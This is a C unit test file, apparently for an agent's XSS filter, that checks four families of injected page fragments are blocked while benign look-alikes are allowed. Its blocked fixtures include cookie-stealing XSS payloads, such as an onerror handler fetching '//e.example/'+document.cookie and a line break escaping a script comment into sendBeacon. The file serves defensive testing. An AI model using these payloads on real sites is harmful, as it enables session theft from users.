/* xss22 (session 34): devhtml's four families of false positives, judged
 * again as a security team would (bench/RESULTS.md, "xss22"). Each family
 * is the bytes of an attack that runs in Chromium (bench/detect/devhtml/
 * families.mjs): an input that is a handler's whole value, a script's whole
 * URL, a line break ending the page's // comment before more of the line,
 * or code that opens a string the page closes. None can be allowed without
 * allowing the attack, so the check keeps blocking them; these pages of our
 * own pin it. The twins are the same sinks where the input adds no markup
 * and no script context (it stays text, string data or a URL's path), and
 * they stay allowed.
 */
#include "agent_xss_test.h"

static void a_handlers_whole_value_fires(void **state)
{
	static const char *const pages[][3] = {
	    {"<img src=\"/m/logo.svg\" onerror=\"",
	     "this.src='/m/x.png';fetch('//e.example/'+document.cookie)", "\">"},
	    {"<select id=\"lang\" onchange=\"", "location='//w.example/?'+document.cookie;", "\">"},
	    {"<button type=\"button\" onclick=\"", "envoyer();", "\">Envoyer</button>"},
	    {"<a href=\"#\" onmouseover='", "top.name=document.domain", "'>Hilfe</a>"},
	};

	(void)state;
	xss_pages_give(pages, sizeof pages / sizeof pages[0], MOAT_BLOCK);
}

static void data_inside_a_handlers_string_is_allowed(void **state)
{
	static const char *const pages[][3] = {
	    {"<button onclick=\"track('", "summer sale 2026", "')\">Buy</button>"},
	    {"<a href=\"#\" onclick=\"show('", "Résumé de la réunion", "'); return false\">x</a>"},
	    {"<select onchange=\"pick(this, '", "Größe M", "')\"></select>"},
	};

	(void)state;
	xss_pages_give(pages, sizeof pages / sizeof pages[0], MOAT_ALLOW);
}

static void a_scripts_whole_url_fires(void **state)
{
	static const char *const pages[][3] = {
	    {"<script type=\"text/javascript\" src=\"", "//ads.example.net/serve.js",
	     "\"></script>"},
	    {"<script src=\"", "https://cdn.example.org/npm/widget@1/w.min.js", "\"></script>"},
	    {"<script async src=\"", "data:text/javascript,alert(1)", "\"></script>"},
	};

	(void)state;
	xss_pages_give(pages, sizeof pages / sizeof pages[0], MOAT_BLOCK);
}

static void a_value_in_a_scripts_query_is_allowed(void **state)
{
	static const char *const pages[][3] = {
	    {"<script src=\"/static/app.js?v=", "4.12.0", "\"></script>"},
	    {"<script src=\"/i18n/messages.js?lang=", "pt-BR", "\"></script>"},
	};

	(void)state;
	xss_pages_give(pages, sizeof pages / sizeof pages[0], MOAT_ALLOW);
}

static void a_line_break_that_releases_the_rest_of_the_line_fires(void **state)
{
	static const char *const pages[][3] = {
	    {"<script>\n// shown to ", ".\n\t", "\tboot(2);\n</script>"},
	    {"<script>\n// Autor: ", "Ana\n", " sendBeacon('/x', document.cookie)//\n</script>"},
	    {"<script>\n  // last edit by ", "Lee\r\n", "  unlock();\n</script>"},
	};

	(void)state;
	xss_pages_give(pages, sizeof pages / sizeof pages[0], MOAT_BLOCK);
}

static void a_comment_the_input_does_not_end_is_allowed(void **state)
{
	static const char *const pages[][3] = {
	    {"<script>\n// shown to ", ". \t", "\tboot(2);\n</script>"},
	    {"<script>\n// Autor: ", "Ana María", "\nrun();\n</script>"},
	    {"<script>\n/* last edit by ", "Jo.\n\t", " */\nunlock();\n</script>"},
	};

	(void)state;
	xss_pages_give(pages, sizeof pages / sizeof pages[0], MOAT_ALLOW);
}

static void code_that_opens_a_string_the_page_closes_fires(void **state)
{
	static const char *const pages[][3] = {
	    {"<script>\n\t", "EDITOR.replace( '", "body' );\n</script>"},
	    {"<script>var x = 1;\n", "send(document.cookie, '", "done');\n</script>"},
	};

	(void)state;
	xss_pages_give(pages, sizeof pages / sizeof pages[0], MOAT_BLOCK);
}

static void text_inside_the_pages_string_is_allowed(void **state)
{
	static const char *const pages[][3] = {
	    {"<script>\n\tEDITOR.replace( '", "body", "' );\n</script>"},
	    {"<script>var title = '", "Replace( the old one )", "';\n</script>"},
	};

	(void)state;
	xss_pages_give(pages, sizeof pages / sizeof pages[0], MOAT_ALLOW);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(a_handlers_whole_value_fires),
	    cmocka_unit_test(data_inside_a_handlers_string_is_allowed),
	    cmocka_unit_test(a_scripts_whole_url_fires),
	    cmocka_unit_test(a_value_in_a_scripts_query_is_allowed),
	    cmocka_unit_test(a_line_break_that_releases_the_rest_of_the_line_fires),
	    cmocka_unit_test(a_comment_the_input_does_not_end_is_allowed),
	    cmocka_unit_test(code_that_opens_a_string_the_page_closes_fires),
	    cmocka_unit_test(text_inside_the_pages_string_is_allowed),
	};
	return cmocka_run_group_tests(tests, group_setup, group_teardown);
}
